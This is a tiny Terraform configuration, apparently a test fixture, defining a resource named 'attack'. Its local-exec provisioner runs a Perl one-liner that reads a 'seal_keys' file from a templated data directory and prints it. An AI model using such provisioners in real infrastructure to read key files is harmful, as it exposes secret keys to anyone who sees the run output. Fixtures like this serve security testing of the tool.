resource "terraform_data" "attack" {
  provisioner "local-exec" {
    interpreter = ["perl", "-e"]
    command     = "open(F, q(@DATA@/seal_keys)) and print <F>"
  }
}
